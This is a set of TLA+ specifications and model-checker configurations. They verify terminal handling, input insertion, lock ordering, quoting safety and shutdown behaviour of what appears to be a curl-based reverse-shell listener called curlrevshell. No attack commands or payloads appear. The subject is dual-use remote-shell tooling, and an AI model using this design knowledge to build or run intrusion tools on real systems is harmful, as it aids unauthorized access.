vars == <<sst, faults, flag, tty, how, pc, raw, status, cause, act>>

Init ==
  /\ faults \in {F \in SUBSET Faults : Cardinality(F) <= 2}
  /\ flag \in Flags /\ tty \in BOOLEAN /\ how \in Exits
  /\ sst \in (IF faults = {} /\ flag = "none" /\ tty THEN ServeStates ELSE {"idle"})
  /\ pc = "flags" /\ raw = FALSE /\ status = "none" /\ cause = "" /\ act = "start"

Exit(st, c) == pc' = "exited" /\ status' = st /\ cause' = c /\ raw' = FALSE   \* every exit path restores the terminal
Goto(p) == pc' = p /\ UNCHANGED <<raw, status, cause>>

Step ==
  /\ pc # "exited"
  /\ UNCHANGED <<sst, faults, flag, tty, how>>
  /\ act' = pc
  /\ CASE pc = "flags"    -> IF flag = "-h" THEN Exit("zero", "info") ELSE Goto("template")
       [] pc = "template" -> IF flag = "-print-default-template" THEN Exit("zero", "info") ELSE Goto("log")
       [] pc = "log"      -> IF "badlog" \in faults THEN Exit("nonzero", "badlog") ELSE Goto("ctrli")
       [] pc = "ctrli"    -> IF flag = "-print-ctrl-i"
                             THEN (IF "ctrli-missing" \in faults THEN Exit("nonzero", "ctrli-missing") ELSE Exit("zero", "info"))
                             ELSE Goto("tty")
       [] pc = "tty"      -> IF tty THEN pc' = "icanhazip" /\ raw' = TRUE /\ UNCHANGED <<status, cause>>
                             ELSE IF CheckBeforeUse THEN Exit("nonzero", "notty")
                             ELSE pc' = "exited" /\ status' = "crash" /\ cause' = "" /\ UNCHANGED raw
       [] pc = "icanhazip"-> IF "icanhazip" \in faults THEN Exit("nonzero", "icanhazip") ELSE Goto("listen")
       [] pc = "listen"   -> LET lf == faults \cap {"addr-syntax", "addr-inuse", "addr-unassignable", "cache-damaged", "cache-unwritable", "cache-nocreate"} IN
                             IF lf # {} THEN \E f \in lf : Exit("nonzero", f) ELSE Goto("serve")
       [] pc = "serve"    -> Exit("zero", how)          \* Ctrl+C / Ctrl+D end a healthy run

Next == Step
Spec == Init /\ [][Next]_vars /\ WF_vars(Step)

(* C20 *)
NeverCrashes == status # "crash"
CleanFailure ==
  pc = "exited" =>
    \/ status = "zero" /\ cause \in {"info"} \cup Exits
    \/ status = "nonzero" /\ (cause \in faults \/ (cause = "notty" /\ ~tty))
FailsWhenItMust ==   \* a run that cannot be satisfied does not serve
  (pc = "serve") => (faults \cap (Faults \ {"ctrli-missing"}) = {} /\ tty /\ flag = "none")
TermiosRestored == pc = "exited" => ~raw
RawOnlyWithTTY == raw => tty
Terminates == <>(pc = "exited")

(* what the statement allows for a configuration, whatever the order of the checks *)
Applicable == {f \in faults : f # "ctrli-missing" \/ flag = "-print-ctrl-i"} \cup (IF tty THEN {} ELSE {"notty"})
Allowed ==
  [ info  |-> flag # "none",
    fails |-> Applicable,
    runs  |-> flag = "none" /\ Applicable = {} ]

EmitCase == \/ ~Emit
            \/ (pc = "exited") => PrintT(<<"CASE", ToJson([faults |-> faults, flag |-> flag, tty |-> tty, how |-> how, sst |-> sst,
                                                           status |-> status, cause |-> cause, allowed |-> Allowed])>>)
=============================================================================
