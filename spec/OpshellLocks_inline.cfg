SPECIFICATION FairSpec
CONSTANTS
  InlineCallback = TRUE
  MaxKeys = 2
  MaxPlain = 2
  MaxStatus = 1
  Emit = FALSE
INVARIANTS TypeOK NoLockCycle
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
