----------------------------- MODULE PerlWrap -----------------------------
(***************************************************************************)
(* A Perl script wrapped as a shell function                               *)
(* (lib/shellfuncsfile/filter_perl.go).                                    *)
(*                                                                         *)
(* Part 1, CleanPerl over line classes: which lines of the script are      *)
(* dropped by trimming, blanked as leading comments, kept in front of the  *)
(* function, or passed to perl unchanged.                                  *)
(*                                                                         *)
(* Part 2, the quoting pipeline as a chain of maps over character codes:   *)
(* uuencode alphabet -> substitute ' and \ -> inside sh single quotes ->   *)
(* environment string -> perl q{...} -> y/sb/\47\134/ -> unpack u.         *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxLines, Emit

(* line classes *)
\*  shebang   "#!/usr/bin/perl"          hash     "#" alone
\*  comment   "# text"                   blank    "" (empty line)
\*  ws        spaces / tabs only         code     a statement
\*  icomment  " # text" (indented: a comment to perl, code to the cleaner
\*            unless trimming makes it the first line)
\*  endmark   "__END__" / "__DATA__": perl stops reading the program there;
\*            the cleaner knows nothing of it and passes it and what follows
LineClasses == {"shebang", "hash", "comment", "blank", "ws", "code", "icomment", "endmark"}
IsSpace(c) == c \in {"blank", "ws"}
IsCommentish(c) == c \in {"shebang", "hash", "comment"}

RECURSIVE DropLeading(_)
DropLeading(s) == IF s # <<>> /\ IsSpace(Head(s)) THEN DropLeading(Tail(s)) ELSE s
RECURSIVE DropTrailing(_)
DropTrailing(s) == IF s # <<>> /\ IsSpace(s[Len(s)]) THEN DropTrailing(SubSeq(s, 1, Len(s) - 1)) ELSE s

(* After TrimSpace: surviving line indexes (1-based into the input), and  *)
(* the class each has for the cleaner (an indented comment that became    *)
(* the first line is a comment).                                          *)
FirstKept(s) == Len(s) - Len(DropLeading(s)) + 1
LastKept(s) == Len(DropTrailing(s))
Kept(s) == IF FirstKept(s) > LastKept(s) THEN <<>> ELSE [i \in 1..(LastKept(s) - FirstKept(s) + 1) |-> FirstKept(s) + i - 1]
ClassAfterTrim(s, k) ==   \* k-th kept line
  LET i == Kept(s)[k] IN IF k = 1 /\ s[i] = "icomment" THEN "comment" ELSE s[i]

RECURSIVE LeadLen(_, _)
LeadLen(s, k) == IF k > Len(Kept(s)) \/ ~IsCommentish(ClassAfterTrim(s, k)) THEN 0 ELSE 1 + LeadLen(s, k + 1)
RECURSIVE SkipLen(_, _)   \* initial #! and bare # lines, not kept in front of the function
SkipLen(s, k) == IF k > LeadLen(s, 1) \/ ClassAfterTrim(s, k) \notin {"shebang", "hash"} THEN 0 ELSE 1 + SkipLen(s, k + 1)

(* result: per kept line what perl receives, and which lines are the lead comments *)
Clean(s) ==
  LET n == Len(Kept(s))  ll == LeadLen(s, 1)  sk == SkipLen(s, 1) IN
  [ empty    |-> n = 0,
    program  |-> [k \in 1..n |-> IF k <= ll THEN [line |-> Kept(s)[k], as |-> "blanked"]
                                           ELSE [line |-> Kept(s)[k], as |-> "kept"]],
    lead     |-> [k \in 1..(ll - sk) |-> Kept(s)[sk + k]],
    \* the statements perl runs: code lines in front of the first end marker
    runs     |-> {Kept(s)[k] : k \in {j \in 1..n : /\ ClassAfterTrim(s, j) = "code"
                                                    /\ \A i \in 1..j : ClassAfterTrim(s, i) # "endmark"}} ]

(* laws *)
LinesPreserved(s) == Len(Clean(s).program) = Len(Kept(s))
OnlyTopCommentsBlanked(s) ==
  \A k \in 1..Len(Clean(s).program) :
     Clean(s).program[k].as = "blanked" <=> (\A j \in 1..k : IsCommentish(ClassAfterTrim(s, j)))
NothingCutAtEndMark(s) == \A k \in 1..Len(Clean(s).program) :
     ClassAfterTrim(s, k) = "endmark" => \A j \in k..Len(Clean(s).program) : Clean(s).program[j].as = "kept"
LeadAreBlanked(s) == \A k \in 1..Len(Clean(s).lead) :
     \E j \in 1..Len(Clean(s).program) : Clean(s).program[j].line = Clean(s).lead[k] /\ Clean(s).program[j].as = "blanked"

(* ---- part 2: the quoting pipeline ---- *)
UUAlphabet == 32..96                         \* space .. backtick
Subst(c) == IF c = 39 THEN 115 ELSE IF c = 92 THEN 98 ELSE c          \* ' -> s, \ -> b
InShSingleQuotes(c) == c                     \* literal, provided c # 39
InPerlQBraces(c) == c                        \* literal, provided c is neither { nor } (123, 125) nor the delimiter
Unsubst(c) == IF c = 115 THEN 39 ELSE IF c = 98 THEN 92 ELSE c        \* y/sb/\47\134/
Pipeline(c) == Unsubst(InPerlQBraces(InShSingleQuotes(Subst(c))))

PipelineIdentity == \A c \in UUAlphabet \cup {10} : Pipeline(c) = c
SubstitutesOutsideAlphabet == 115 \notin UUAlphabet /\ 98 \notin UUAlphabet
NoQuoteLeft == \A c \in UUAlphabet \cup {10} : Subst(c) # 39 /\ Subst(c) # 92
BracesBalanced == \A c \in UUAlphabet \cup {10} : Subst(c) \notin {123, 125}
NothingElseMapsBack == \A c \in UUAlphabet \cup {10} : (Subst(c) \in {115, 98}) <=> (c \in {39, 92})

VARIABLE script
Init == script \in UNION {[1..n -> LineClasses] : n \in 0..MaxLines}
Next == UNCHANGED script
Spec == Init /\ [][Next]_script

CleanLaws == /\ LinesPreserved(script) /\ OnlyTopCommentsBlanked(script) /\ LeadAreBlanked(script)
             /\ NothingCutAtEndMark(script)
PipelineLaws == PipelineIdentity /\ SubstitutesOutsideAlphabet /\ NoQuoteLeft /\ BracesBalanced /\ NothingElseMapsBack

EmitCase == \/ ~Emit
            \/ PrintT(<<"CASE", ToJson([script |-> script, clean |-> Clean(script)])>>)
=============================================================================
