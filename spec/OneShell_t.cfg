SPECIFICATION FairSpec
CONSTANTS
  OneShellFlag = TRUE
  MaxPre = 3
  MaxHeld = 2
  Emit = TRUE
INVARIANTS ClosedOnlyAfterFull OpenWhileNotFull NoHelpAfterGone ExitsWithSuccess StaysWhileShellAttached
PROPERTIES ClosesAfterFull ShellUndisturbed ExitsAtNextLine LateShellServed
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
