----------------------------- MODULE TabList -----------------------------
(***************************************************************************)
(* Quote-safety of the generated tab_list function                         *)
(* (lib/shellfuncsfile/funclist.go): every row is emitted as               *)
(*     echo 'ROW'   with every single quote of ROW replaced by '\''        *)
(* The POSIX shell lexer, restricted to what matters here, is an automaton *)
(* over character classes: unquoted / inside single quotes / after an      *)
(* unquoted backslash.  For every row the escaped text must lex to exactly *)
(* one literal word equal to the row, end unquoted, and never expose a     *)
(* character of the row outside quotes.                                    *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxLen, Emit

Classes == {"q", "bs", "dollar", "bt", "dq", "semi", "amp", "pipe", "lp", "rp", "lt", "gt", "sp",
            "hash", "bang", "star", "other", "ctrl", "high"}

(* the generator's escaping *)
RECURSIVE EscapeBody(_)
EscapeBody(row) == IF row = <<>> THEN <<>>
                   ELSE (IF Head(row) = "q" THEN <<"q", "bs", "q", "q">> ELSE <<Head(row)>>) \o EscapeBody(Tail(row))
Escape(row) == <<"q">> \o EscapeBody(row) \o <<"q">>

(* the shell's lexer on one word: returns the final mode, the literal text, *)
(* and whether any character other than ' and \ was seen outside quotes     *)
RECURSIVE Lex(_, _, _, _)
Lex(s, mode, word, exposed) ==
  IF s = <<>> THEN [mode |-> mode, word |-> word, exposed |-> exposed]
  ELSE LET c == Head(s) IN
    CASE mode = "sq"  -> IF c = "q" THEN Lex(Tail(s), "unq", word, exposed)
                                   ELSE Lex(Tail(s), "sq", Append(word, c), exposed)
      [] mode = "esc" -> Lex(Tail(s), "unq", Append(word, c), exposed)
      [] mode = "unq" -> IF c = "q" THEN Lex(Tail(s), "sq", word, exposed)
                         ELSE IF c = "bs" THEN Lex(Tail(s), "esc", word, exposed)
                         ELSE Lex(Tail(s), "unq", Append(word, c), TRUE)

VARIABLE row
Init == row \in UNION {[1..n -> Classes] : n \in 0..MaxLen}
Next == UNCHANGED row
Spec == Init /\ [][Next]_row

R == Lex(Escape(row), "unq", <<>>, FALSE)
OneLiteralWord == R.word = row
EndsUnquoted == R.mode = "unq"
NothingExposed == ~R.exposed
(* the only way out of the quotes is the three-character sequence '\'' *)
OnlyQuoteEscapes ==
  LET e == Escape(row) IN
  \A i \in 2..Len(e) - 1 : e[i] = "q" =>
     \/ (e[i + 1] = "bs" /\ i + 3 <= Len(e) /\ e[i + 2] = "q" /\ e[i + 3] = "q")
     \/ (e[i - 1] = "bs" /\ i >= 3 /\ e[i - 2] = "q")
     \/ (i >= 4 /\ e[i - 1] = "q" /\ e[i - 2] = "bs" /\ e[i - 3] = "q")

EmitCase == \/ ~Emit
            \/ PrintT(<<"CASE", ToJson([row |-> row, escaped |-> Escape(row)])>>)
=============================================================================
