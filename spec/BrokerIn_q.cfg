SPECIFICATION FairSpec
CONSTANTS
  MaxLines = 3
  MaxShells = 2
INVARIANTS GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery
PROPERTIES FlushBeforeNextTake Prompt EndsWhenCancelled
CHECK_DEADLOCK FALSE
