-------------------------- MODULE OpshellLocksInd --------------------------
(***************************************************************************)
(* OpshellLocks in the typed dialect Apalache checks, without the bounds   *)
(* on the environment (any number of key presses, chunks and status lines; *)
(* pending announcements and Ctrl+O handlings are unbounded counters), and *)
(* with an inductive invariant.  Apalache discharges                       *)
(*     Init => IndInv   and   IndInv /\ Next => IndInv'                    *)
(* for the repaired design (InlineCallback = FALSE), so NoLockCycle and    *)
(* LockOrder hold after histories of any length; for the design as found   *)
(* (InlineCallback = TRUE) the second obligation is refuted.               *)
(***************************************************************************)
EXTENDS Integers, FiniteSets

CONSTANTS
  \* @type: Bool;
  InlineCallback

None == "none"
Loggers == {"L1", "L2"}
Procs == {"R", "W", "M", "T"} \union Loggers
PCs == {"idle", "key", "body", "ret", "haveW", "haveWT"}

VARIABLES
  \* @type: Str;
  wL,
  \* @type: Str;
  tL,
  \* @type: Str -> Str;
  pc,
  \* @type: Bool;
  muted,
  \* @type: Str;
  wkind,
  \* @type: Int;
  pendM,
  \* @type: Int;
  pendL,
  \* @type: Bool;
  armed

Init ==
  /\ wL = None /\ tL = None /\ pc = [p \in Procs |-> "idle"]
  /\ muted = FALSE /\ wkind = "plain" /\ pendM = 0 /\ pendL = 0 /\ armed = FALSE

Step(p, from, to) == pc[p] = from /\ pc' = [pc EXCEPT ![p] = to]

RKey == /\ tL = None /\ Step("R", "idle", "key") /\ tL' = "R"
        /\ UNCHANGED <<wL, muted, wkind, pendM, pendL, armed>>
RCallback ==
  IF InlineCallback
  THEN /\ wL = None /\ wL' = "R" /\ Step("R", "key", "body")
       /\ UNCHANGED <<tL, muted, wkind, pendM, pendL, armed>>
  ELSE /\ Step("R", "key", "ret") /\ pendM' = pendM + 1
       /\ UNCHANGED <<wL, tL, muted, wkind, pendL, armed>>
RBody == /\ Step("R", "body", "ret") /\ wL' = None /\ muted' = TRUE /\ armed' = TRUE /\ pendL' = pendL + 1
         /\ UNCHANGED <<tL, wkind, pendM>>
RReturn == /\ Step("R", "ret", "idle") /\ tL' = None
           /\ UNCHANGED <<wL, muted, wkind, pendM, pendL, armed>>

MLock == /\ pendM > 0 /\ wL = None /\ wL' = "M" /\ Step("M", "idle", "body") /\ pendM' = pendM - 1
         /\ UNCHANGED <<tL, muted, wkind, pendL, armed>>
MBody == /\ Step("M", "body", "idle") /\ wL' = None /\ muted' = TRUE /\ armed' = TRUE /\ pendL' = pendL + 1
         /\ UNCHANGED <<tL, wkind, pendM>>

WLock(k) == /\ wL = None /\ wL' = "W" /\ wkind' = k /\ Step("W", "idle", "haveW")
            /\ UNCHANGED <<tL, muted, pendM, pendL, armed>>
WSkip == /\ wkind = "plain" /\ muted /\ Step("W", "haveW", "idle") /\ wL' = None
         /\ UNCHANGED <<tL, muted, wkind, pendM, pendL, armed>>
WLockT == /\ (wkind = "status" \/ ~muted) /\ tL = None /\ tL' = "W" /\ Step("W", "haveW", "haveWT")
          /\ UNCHANGED <<wL, muted, wkind, pendM, pendL, armed>>
WDone == /\ Step("W", "haveWT", "idle") /\ tL' = None /\ wL' = None
         /\ UNCHANGED <<muted, wkind, pendM, pendL, armed>>

LLock(l) == /\ pendL > 0 /\ wL = None /\ wL' = l /\ Step(l, "idle", "haveW") /\ pendL' = pendL - 1
            /\ UNCHANGED <<tL, muted, wkind, pendM, armed>>
LLockT(l) == /\ tL = None /\ tL' = l /\ Step(l, "haveW", "haveWT")
             /\ UNCHANGED <<wL, muted, wkind, pendM, pendL, armed>>
LDone(l) == /\ Step(l, "haveWT", "idle") /\ tL' = None /\ wL' = None
            /\ UNCHANGED <<muted, wkind, pendM, pendL, armed>>

TLock == /\ armed /\ muted /\ wL = None /\ wL' = "T" /\ Step("T", "idle", "body")
         /\ UNCHANGED <<tL, muted, wkind, pendM, pendL, armed>>
TBody == /\ Step("T", "body", "idle") /\ wL' = None /\ muted' = FALSE /\ armed' = FALSE /\ pendL' = pendL + 1
         /\ UNCHANGED <<tL, wkind, pendM>>

Next ==
  \/ RKey \/ RCallback \/ RBody \/ RReturn \/ MLock \/ MBody
  \/ (\E k \in {"plain", "status"} : WLock(k)) \/ WSkip \/ WLockT \/ WDone
  \/ (\E l \in Loggers : LLock(l) \/ LLockT(l) \/ LDone(l))
  \/ TLock \/ TBody

-----------------------------------------------------------------------------
TypeOK ==
  /\ wL \in Procs \union {None} /\ tL \in Procs \union {None}
  /\ pc \in [Procs -> PCs]
  /\ muted \in BOOLEAN /\ armed \in BOOLEAN /\ wkind \in {"plain", "status"}
  /\ pendM \in Nat /\ pendL \in Nat

\* who holds what, exactly
Holds ==
  /\ (wL = "R") <=> (pc["R"] = "body")
  /\ (wL = "M") <=> (pc["M"] = "body")
  /\ (wL = "T") <=> (pc["T"] = "body")
  /\ (wL = "W") <=> (pc["W"] \in {"haveW", "haveWT"})
  /\ \A l \in Loggers : (wL = l) <=> (pc[l] \in {"haveW", "haveWT"})
  /\ (tL = "R") <=> (pc["R"] \in {"key", "body", "ret"})
  /\ (tL = "W") <=> (pc["W"] = "haveWT")
  /\ \A l \in Loggers : (tL = l) <=> (pc[l] = "haveWT")
  /\ tL # "M" /\ tL # "T"
  /\ pc["R"] \in {"idle", "key", "body", "ret"}
  /\ pc["M"] \in {"idle", "body"} /\ pc["T"] \in {"idle", "body"}
  /\ pc["W"] \in {"idle", "haveW", "haveWT"}
  /\ \A l \in Loggers : pc[l] \in {"idle", "haveW", "haveWT"}
  /\ (~InlineCallback) => pc["R"] # "body"

WantsW(p) == p = "R" /\ pc[p] = "key" /\ InlineCallback
WantsT(p) == p \in {"W"} \union Loggers /\ pc[p] = "haveW" /\ ~(p = "W" /\ wkind = "plain" /\ muted)
NoLockCycle == ~ \E p, q \in Procs : p # q /\ tL = p /\ WantsW(p) /\ wL = q /\ WantsT(q)
LockOrder == \A p \in Procs : (tL = p /\ wL = p) => p # "R"

IndInv == TypeOK /\ Holds /\ NoLockCycle /\ LockOrder
IndInit == IndInv
=============================================================================
