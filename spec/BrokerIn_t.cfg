SPECIFICATION FairSpec
CONSTANTS
  MaxLines = 4
  MaxShells = 3
INVARIANTS GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery
PROPERTIES FlushBeforeNextTake Prompt EndsWhenCancelled
CHECK_DEADLOCK FALSE
