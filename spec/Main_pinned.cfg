SPECIFICATION Spec
CONSTANTS
  CheckBeforeUse = FALSE
  Emit = FALSE
INVARIANTS NeverCrashes CleanFailure FailsWhenItMust TermiosRestored RawOnlyWithTTY
PROPERTIES Terminates
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
