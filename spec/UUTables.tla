------------------------------ MODULE UUTables ------------------------------
(* Validates the four character tables the harness projected from the real *)
(* encoder run over all 2^24 three-byte groups against EncGroup.           *)
EXTENDS UU

Tables == JsonDeserialize("uutables.json")   \* [t0: 256, t1: 256x256, t2: 256x256, t3: 256], 1-based sequences

VARIABLES i, j
tvars == <<i, j>>
TInit == i \in Rows /\ j \in 0..255 /\ phase = "tab" /\ n = 0 /\ k = "zero" /\ m = "none"
TNext == UNCHANGED <<tvars, vars>>
TSpec == TInit /\ [][TNext]_<<tvars, vars>>

TablesOK ==
  /\ Tables.t0[i + 1] = EncGroup(i, 0, 0)[1]
  /\ Tables.t1[i + 1][j + 1] = EncGroup(i, j, 0)[2]
  /\ Tables.t2[i + 1][j + 1] = EncGroup(0, i, j)[3]
  /\ Tables.t3[i + 1] = EncGroup(0, 0, i)[4]
=============================================================================
