SPECIFICATION FairSpec
CONSTANTS
  InlineCallback = FALSE
  MaxKeys = 3
  MaxPlain = 3
  MaxStatus = 2
  Emit = TRUE
INVARIANTS TypeOK NoLockCycle LockOrder HoldersConsistent
PROPERTIES KeysProcessed AnnouncementsShown WriterProgresses MuteEnds
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
