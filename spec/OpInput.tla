------------------------------ MODULE OpInput ------------------------------
(***************************************************************************)
(* The operator's side of C02: how what is entered at the terminal gets    *)
(* onto the input channel (lib/opshell opshell.go Do's ReadLine loop,      *)
(* insert.go, chanwriter.go).                                              *)
(*                                                                         *)
(*   TypeLine     ReadLine returns a line; the loop sends it to ich before *)
(*                reading on: one entry per line, in typing order          *)
(*   CtrlI        the key callback starts "go s.insert()"                  *)
(*   InsSend(j)   that goroutine has generated its payload and writes it   *)
(*                through ChanWriter: ONE entry, whatever its size and     *)
(*                however many lines it has; asynchronous, so it may land  *)
(*                after lines typed later, never before lines typed earlier*)
(*   CtrlJ        pretend-insert: shown locally, nothing entered           *)
(*   CtrlO        mute: nothing entered                                    *)
(* ich entries are <<"L", i>> (i-th typed line) or <<"P", j>> (payload of  *)
(* the j-th Ctrl+I).                                                       *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxLines, MaxIns, MaxOther, Emit

VARIABLES
  typed,    \* lines typed so far
  ins,      \* Ctrl+I presses so far
  pend,     \* inserts started and not yet sent
  before,   \* per insert: how many lines had been typed when it was started
  ich,      \* the input channel's history (everything ever sent on it)
  nother,   \* Ctrl+J / Ctrl+O presses so far
  act
vars == <<typed, ins, pend, before, ich, nother, act>>

Init == /\ typed = 0 /\ ins = 0 /\ pend = {} /\ before = <<>> /\ ich = <<>> /\ nother = 0
        /\ act = [n |-> "Init"]

TypeLine ==
  /\ typed < MaxLines
  /\ typed' = typed + 1 /\ ich' = Append(ich, <<"L", typed + 1>>)
  /\ act' = [n |-> "TypeLine", i |-> typed + 1]
  /\ UNCHANGED <<ins, pend, before, nother>>

CtrlI ==
  /\ ins < MaxIns
  /\ ins' = ins + 1 /\ pend' = pend \cup {ins + 1} /\ before' = Append(before, typed)
  /\ act' = [n |-> "CtrlI", j |-> ins + 1]
  /\ UNCHANGED <<typed, ich, nother>>

InsSend(j) ==
  /\ j \in pend
  /\ pend' = pend \ {j} /\ ich' = Append(ich, <<"P", j>>)
  /\ act' = [n |-> "InsSend", j |-> j]
  /\ UNCHANGED <<typed, ins, before, nother>>

Other(k) ==
  /\ nother < MaxOther /\ nother' = nother + 1
  /\ act' = [n |-> k]
  /\ UNCHANGED <<typed, ins, pend, before, ich>>

Next == TypeLine \/ CtrlI \/ (\E j \in 1..MaxIns : InsSend(j)) \/ Other("CtrlJ") \/ Other("CtrlO")
Spec == Init /\ [][Next]_vars
FairSpec == Spec /\ \A j \in 1..MaxIns : WF_vars(InsSend(j))

-----------------------------------------------------------------------------
Lines == SelectSeq(ich, LAMBDA e : e[1] = "L")
Pays  == SelectSeq(ich, LAMBDA e : e[1] = "P")
Pos(e) == CHOOSE p \in 1..Len(ich) : ich[p] = e

(* C02, operator side *)
LinesOnceInOrder == Lines = [i \in 1..typed |-> <<"L", i>>]
OneEntryPerInsert ==
  /\ \A p, q \in 1..Len(Pays) : p # q => Pays[p] # Pays[q]
  /\ {e[2] : e \in {Pays[p] : p \in 1..Len(Pays)}} = (1..ins) \ pend
NothingElseEntered == Len(ich) = typed + Cardinality((1..ins) \ pend)
NeverBeforeEarlierLines ==
  \A j \in (1..ins) \ pend : \A i \in 1..before[j] : Pos(<<"L", i>>) < Pos(<<"P", j>>)
EveryInsertArrives == \A j \in 1..MaxIns : (j \in pend) ~> (j \notin pend)

View == <<typed, ins, pend, before, ich, nother>>
EmitEdge == \/ ~Emit
            \/ PrintT(<<"EDGE", ToJson([from |-> [typed |-> typed, ins |-> ins, pend |-> pend, before |-> before, ich |-> ich, nother |-> nother],
                                         act |-> act',
                                         to |-> [typed |-> typed', ins |-> ins', pend |-> pend', before |-> before', ich |-> ich', nother |-> nother']])>>)
=============================================================================
