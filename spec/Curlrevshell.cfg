SPECIFICATION Spec
CONSTANTS
  NChunks = 2
  QCap = 2
  OchCap = 1
  Pause = 2
  MaxT = 4
  MaxEvents = 4
  MaxPerTick = 2
  DrainAfterQuit = TRUE
  ShowBeforeStop = TRUE
INVARIANTS NoticeShownAtCompletion DisplayedIsPartOfSent NothingLostWithoutCtrlO NoticesAlwaysDisplayed UnmutedAndUncancelledLosesNothing
CHECK_DEADLOCK FALSE
