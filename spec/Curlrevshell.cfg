SPECIFICATION Spec
CONSTANTS
  NChunks = 2
  QCap = 2
  OchCap = 1
  Pause = 2
  MaxT = 4
  MaxEvents = 4
  MaxPerTick = 2
  DrainAfterQuit = TRUE
  AfterCancel = "queued"
INVARIANTS BoundedAfterCancel NoticeShownAtCompletion DisplayedIsPartOfSent NothingLostWithoutCtrlO NoticesAlwaysDisplayed UnmutedAndUncancelledLosesNothing
CHECK_DEADLOCK FALSE
