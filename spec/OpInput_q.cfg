SPECIFICATION FairSpec
CONSTANTS
  MaxLines = 3
  MaxIns = 2
  MaxOther = 1
  Emit = TRUE
INVARIANTS LinesOnceInOrder OneEntryPerInsert NothingElseEntered NeverBeforeEarlierLines
PROPERTIES EveryInsertArrives
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
