SPECIFICATION FairSpec
CONSTANTS
  MaxLines = 4
  MaxIns = 3
  MaxOther = 2
  Emit = TRUE
INVARIANTS LinesOnceInOrder OneEntryPerInsert NothingElseEntered NeverBeforeEarlierLines
PROPERTIES EveryInsertArrives
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
