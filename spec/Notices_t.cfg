SPECIFICATION Spec
CONSTANTS
  MaxTokens = 3
  Emit = TRUE
INVARIANTS NoticeVerbatim NoArtefact NothingAdded
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
