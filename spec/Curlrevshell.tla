--------------------------- MODULE Curlrevshell ---------------------------
(***************************************************************************)
(* Composition of the output path with the operator's terminal: what the   *)
(* shell sends travels through Broker.proxyOut (BrokerOut) onto the        *)
(* operator channel, and the terminal (Opshell) takes it from there,       *)
(* subject to the Ctrl+O mute.  The coupling is the channel: the step in   *)
(* which the terminal takes an item (BrokerOut!Term) is the step in which  *)
(* lib/opshell handles a CLine (Opshell!Plain for shell output,            *)
(* Opshell!Status for the close notice).                                   *)
(*                                                                         *)
(* This states the cross-module assumption the per-module checks rely on   *)
(* (the terminal drains the operator channel independently of the broker)  *)
(* and the end-to-end form of C03 + C19: what is displayed is, in order,   *)
(* a part of what was sent; nothing is lost unless Ctrl+O was pressed or   *)
(* the stream was cancelled; notices are always displayed.                 *)
(*                                                                         *)
(* Quit: the operator ends the program (Ctrl+C / Ctrl+D): Shell.Do returns *)
(* - the terminal takes nothing any more - and the error group cancels     *)
(* every context.  The broker must still finish (curlrevshell.go waits for *)
(* Broker.Do), and connect sends its closing notice with a plain blocking  *)
(* send.  DrainAfterQuit = FALSE is the tree as found: nobody receives     *)
(* from the operator channel after the shell has returned, so with a full  *)
(* channel (a shell flooding a slower terminal) the notice is never sent   *)
(* and the program never exits (Curlrevshell_quit_asfound.cfg: TLC refutes *)
(* EndsAfterQuit).  DrainAfterQuit = TRUE is the repaired design: what is  *)
(* still sent after the shell has returned is discarded.                   *)
(*                                                                         *)
(* Finish / TermStop: with -one-shell the server finishes by itself once   *)
(* its shell has ended (the closing notices are on the operator channel by *)
(* then), which cancels every context, the output goroutine of the         *)
(* terminal included.  ShowBeforeStop = FALSE is the tree as found: that   *)
(* goroutine returns as soon as it sees the cancellation, whatever is      *)
(* still queued, so the 'shell is gone' notice is lost now and then        *)
(* (Curlrevshell_finish_asfound.cfg: TLC refutes NoticeShownAtCompletion). *)
(* ShowBeforeStop = TRUE: it first shows what has already been sent.       *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, SequencesExt, TLC

CONSTANTS NChunks, QCap, OchCap, Pause, MaxT, MaxEvents, MaxPerTick, DrainAfterQuit, AfterCancel

VARIABLES
  \* BrokerOut
  rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, nread,
  sent, shown, fwd, dropped, logd, selfEnd,
  \* Opshell
  now, muted, deadline, everO, nev, inTick, lastShown, firedAt, act,
  \* composition history
  displayed,    \* what reached the terminal's screen: chunk numbers, 0 = notice
  quit,         \* "no" | "key" (Ctrl+C / Ctrl+D read: the shell's own context is cancelled, its
                \* output goroutine is about to return) | "returned" (Shell.Do has returned; main's
                \* error group cancels every other context)
  finished,     \* the server has finished by itself (-one-shell): every context is cancelled
  tstopped,     \* the terminal's output goroutine has returned because of that
  left,         \* lines the output goroutine may still show after its context was cancelled
                \* (-1 = not cancelled, -2 = as many as there are)
  queuedAt, shownAfter   \* history: lines queued when it was cancelled / shown since

ovars == <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, nread,
           sent, shown, fwd, dropped, logd, selfEnd>>
tvars == <<now, muted, deadline, everO, nev, inTick, lastShown, firedAt, act>>
cvars == <<quit, finished, tstopped, left, queuedAt, shownAfter>>
vars == <<ovars, tvars, displayed, cvars>>

Out == INSTANCE BrokerOut WITH ReaderSelectsCtx <- TRUE, MayOmitNotice <- FALSE
Op  == INSTANCE Opshell WITH Emit <- FALSE

Init == /\ Out!Init /\ Op!Init /\ displayed = <<>>
        /\ quit = "no" /\ finished = FALSE /\ tstopped = FALSE /\ left = -1 /\ queuedAt = 0 /\ shownAfter = 0

Cancelled == left # -1
(* what the output goroutine does once it sees its context cancelled (lib/opshell handleOutput): *)
(*   "none"    returns at once (the tree as found)                                              *)
(*   "queued"  first shows the lines that were queued at that moment (the repair)               *)
(*   "all"     shows whatever is or becomes queued (the first, wrong version of the repair)     *)
